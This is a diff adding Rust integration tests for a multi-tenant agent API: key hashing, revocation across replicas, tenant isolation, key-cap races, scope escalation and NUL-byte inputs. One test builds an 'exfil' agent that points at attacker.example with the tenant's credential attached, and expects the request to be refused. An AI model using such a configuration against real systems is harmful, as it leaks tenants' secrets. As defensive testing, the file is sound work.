@@ -517,14 +517,22 @@ async fn api_keys_are_shown_once_capped_and_accepted_three_ways() {
     let db = stack.db.client().await.expect("db");
     let stored: i64 = db
         .query_one(
-            "SELECT count(*) FROM api_keys WHERE hash = sha256(convert_to($1, 'UTF8')) \
-                    AND position(convert_to($1, 'UTF8') IN hash) = 0",
+            "SELECT count(*) FROM api_keys WHERE hash = sha256(convert_to($1, 'UTF8'))",
             &[&secret],
         )
         .await
         .expect("query")
         .get(0);
-    assert_eq!(stored, 1, "stored as its SHA-256 digest only");
+    assert_eq!(stored, 1, "stored under its SHA-256 digest");
+    let in_clear: i64 = db
+        .query_one(
+            "SELECT count(*) FROM api_keys k WHERE strpos(k::text, $1) > 0",
+            &[&secret],
+        )
+        .await
+        .expect("query")
+        .get(0);
+    assert_eq!(in_clear, 0, "no column holds the secret itself");
 
     // The three ways the seeds send a key.
     let runs_of =
@@ -638,9 +646,36 @@ async fn a_revoked_key_fails_on_every_replica_within_a_second() {
             .expect("send")
             .status()
     };
-    // Used, hence cached, on the second replica.
+    // The second replica caches keys only while it follows the control exchange.
+    poll(Duration::from_secs(10), || async {
+        let ready: Value = stack
+            .http
+            .get(format!("{second_url}/readyz"))
+            .send()
+            .await
+            .ok()?
+            .json()
+            .await
+            .ok()?;
+        (ready["keyCache"] == "live").then_some(())
+    })
+    .await
+    .expect("the second replica's key cache goes live");
     assert_eq!(on_second().await, 200);
-    assert_eq!(on_second().await, 200);
+    // Revoked behind the ingress's back: the second replica still answers from its cache, which
+    // shows that only the announcement below can make it refuse the key.
+    stack
+        .db
+        .client()
+        .await
+        .expect("db")
+        .execute(
+            "UPDATE api_keys SET revoked_at = now() WHERE id = $1::text::uuid",
+            &[&id],
+        )
+        .await
+        .expect("revoke in the database");
+    assert_eq!(on_second().await, 200, "served from the cache");
 
     assert_eq!(
         delete(
@@ -867,6 +902,28 @@ async fn another_tenants_key_gets_404_for_every_resource() {
         404,
         "not_found",
     );
+    assert_problem(
+        &patch(&stack, &paths[0], &key_a, json!({"name": "mine now"})).await,
+        404,
+        "not_found",
+    );
+    assert_problem(&delete(&stack, &paths[0], &key_a).await, 404, "not_found");
+    assert_problem(
+        &patch(&stack, &paths[4], &key_a, json!({"name": "mine now"})).await,
+        404,
+        "not_found",
+    );
+    assert_problem(
+        &patch(&stack, &paths[6], &key_a, json!({"name": "mine now"})).await,
+        404,
+        "not_found",
+    );
+    assert_problem(
+        &patch(&stack, &paths[8], &key_a, json!({"value": "planted"})).await,
+        404,
+        "not_found",
+    );
+    assert_problem(&delete(&stack, &paths[8], &key_a).await, 404, "not_found");
     // B's things are all still there for B.
     for path in &paths {
         assert_eq!(get(&stack, path, &key_b).await.status, 200, "{path}");
@@ -1140,5 +1197,261 @@ async fn the_openapi_document_covers_the_api_and_the_docs_page_needs_no_cdn() {
         200,
         "the UI's script is served by the ingress itself"
     );
+    stack.shutdown().await;
+}
+
+#[tokio::test]
+async fn concurrent_creates_cannot_pass_the_key_cap_together() {
+    let stack = stack().await;
+    let (t, owner) = tenant(&stack).await;
+    let path = format!("/manage/tenants/{t}/api-keys");
+    let attempts = (0..15).map(|n| {
+        let (stack, path, owner) = (&stack, &path, &owner);
+        async move {
+            post(stack, path, owner, json!({"name": format!("racer {n}")}))
+                .await
+                .status
+        }
+    });
+    let statuses = futures::future::join_all(attempts).await;
+    let created = statuses.iter().filter(|s| s.as_u16() == 201).count();
+    let refused = statuses.iter().filter(|s| s.as_u16() == 409).count();
+    assert_eq!(
+        (created, refused),
+        (9, 6),
+        "the owner's key plus nine make ten: {statuses:?}"
+    );
+    stack.shutdown().await;
+}
+
+#[tokio::test]
+async fn keys_cannot_escalate_or_reach_secrets_beyond_their_grant() {
+    let stack = stack().await;
+    let (t, owner) = tenant(&stack).await;
+    project_with_agent(&stack, &t, &owner, "p", "p-agent").await;
+    let cred = post(
+        &stack,
+        &format!("/manage/tenants/{t}/credentials"),
+        &owner,
+        json!({"id": "llm", "name": "LLM", "value": "sk"}),
+    )
+    .await;
+    assert_eq!(cred.status, 201);
+    let manage_only = post(
+        &stack,
+        &format!("/manage/tenants/{t}/api-keys"),
+        &owner,
+        json!({"name": "m", "scopes": ["manage"]}),
+    )
+    .await;
+    let manage_only = manage_only.body["data"]["key"]
+        .as_str()
+        .expect("secret")
+        .to_owned();
+    assert_problem(
+        &post(
+            &stack,
+            &format!("/manage/tenants/{t}/api-keys"),
+            &manage_only,
+            json!({"name": "up", "scopes": ["trigger"]}),
+        )
+        .await,
+        403,
+        "forbidden",
+    );
+    assert_problem(
+        &post(
+            &stack,
+            &format!("/manage/tenants/{t}/api-keys"),
+            &manage_only,
+            json!({"name": "up"}),
+        )
+        .await,
+        403,
+        "forbidden",
+    );
+    assert_eq!(
+        post(
+            &stack,
+            &format!("/manage/tenants/{t}/api-keys"),
+            &manage_only,
+            json!({"name": "same", "scopes": ["manage"]})
+        )
+        .await
+        .status,
+        201
+    );
+
+    // A project-limited key may not point an agent or trigger at the tenant's credentials.
+    let limited = post(
+        &stack,
+        &format!("/manage/tenants/{t}/api-keys"),
+        &owner,
+        json!({"name": "p", "scopes": ["manage"], "projectIds": ["p"]}),
+    )
+    .await;
+    let limited = limited.body["data"]["key"]
+        .as_str()
+        .expect("secret")
+        .to_owned();
+    let agents = format!("/manage/tenants/{t}/projects/p/agents");
+    assert_problem(
+        &post(
+            &stack,
+            &agents,
+            &limited,
+            json!({"name": "exfil", "kind": "http",
+        "config": {"url": "https://attacker.example/"}, "credentialReferenceId": "llm"}),
+        )
+        .await,
+        403,
+        "forbidden",
+    );
+    assert_problem(
+        &patch(
+            &stack,
+            &format!("{agents}/p-agent"),
+            &limited,
+            json!({"credentialReferenceId": "llm"}),
+        )
+        .await,
+        403,
+        "forbidden",
+    );
+    assert_problem(
+        &post(
+            &stack,
+            &format!("{agents}/p-agent/triggers"),
+            &limited,
+            json!({"name": "t", "signingSecretCredentialReferenceId": "llm"}),
+        )
+        .await,
+        403,
+        "forbidden",
+    );
+    assert_eq!(
+        post(
+            &stack,
+            &format!("{agents}/p-agent/triggers"),
+            &limited,
+            json!({"name": "plain"})
+        )
+        .await
+        .status,
+        201
+    );
+    stack.shutdown().await;
+}
+
+#[tokio::test]
+async fn nul_characters_and_null_for_required_members_are_refused_cleanly() {
+    let stack = stack().await;
+    let (t, key) = tenant(&stack).await;
+    project_with_agent(&stack, &t, &key, "p", "a").await;
+    assert_problem(
+        &get(&stack, "/manage/tenants/%00", ADMIN_TOKEN).await,
+        404,
+        "not_found",
+    );
+    assert_problem(
+        &get(&stack, &format!("/manage/tenants/{t}/projects/a%00b"), &key).await,
+        404,
+        "not_found",
+    );
+    let triggers = format!("/manage/tenants/{t}/projects/p/agents/a/triggers");
+    assert_problem(
+        &post(
+            &stack,
+            &triggers,
+            &key,
+            json!({"name": "t", "outputTransform": {"template": "x\u{0}"}}),
+        )
+        .await,
+        422,
+        "unprocessable_entity",
+    );
+    assert_problem(
+        &post(
+            &stack,
+            &format!("/manage/tenants/{t}/api-keys"),
+            &key,
+            json!({"name": "k", "projectIds": ["p\u{0}"]}),
+        )
+        .await,
+        422,
+        "unprocessable_entity",
+    );
+    assert_problem(
+        &post(
+            &stack,
+            &format!("/manage/tenants/{t}/projects"),
+            &key,
+            json!({"name": "n\u{0}"}),
+        )
+        .await,
+        422,
+        "unprocessable_entity",
+    );
+
+    let made = post(
+        &stack,
+        &triggers,
+        &key,
+        json!({"id": "t1", "name": "t1", "enabled": false}),
+    )
+    .await;
+    assert_eq!(made.status, 201);
+    for member in ["enabled", "name", "key", "waitTimeoutSeconds"] {
+        let cleared = patch(
+            &stack,
+            &format!("{triggers}/t1"),
+            &key,
+            json!({member: null}),
+        )
+        .await;
+        assert_problem(&cleared, 422, "unprocessable_entity");
+    }
+    let still = get(&stack, &format!("{triggers}/t1"), &key).await;
+    assert_eq!(still.body["data"]["enabled"], false);
+    stack.shutdown().await;
+}
+
+#[tokio::test]
+async fn a_run_whose_agent_is_deleted_before_it_starts_fails_instead_of_waiting() {
+    let mut stack = Stack::start(StackOptions {
+        workers: 0,
+        ..StackOptions::default()
+    })
+    .await
+    .expect("stack starts");
+    let (t, key) = tenant(&stack).await;
+    project_with_agent(&stack, &t, &key, "p", "short-lived").await;
+    let run = post(
+        &stack,
+        "/v1/runs",
+        &key,
+        json!({"agentId": "short-lived", "message": "orphan"}),
+    )
+    .await;
+    assert_eq!(run.status, 202);
+    let id = run.body["id"].as_str().expect("id").to_owned();
+    assert_eq!(
+        delete(
+            &stack,
+            &format!("/manage/tenants/{t}/projects/p/agents/short-lived"),
+            &key
+        )
+        .await
+        .status,
+        204
+    );
+    stack.add_worker().expect("worker starts");
+    let failed = poll(Duration::from_secs(20), || async {
+        let r = get(&stack, &format!("/v1/runs/{id}"), &key).await;
+        (r.body["status"] == "failed").then_some(r.body)
+    })
+    .await
+    .expect("the run fails");
+    assert_eq!(failed["errorCode"], "agent_not_found");
     stack.shutdown().await;
 }
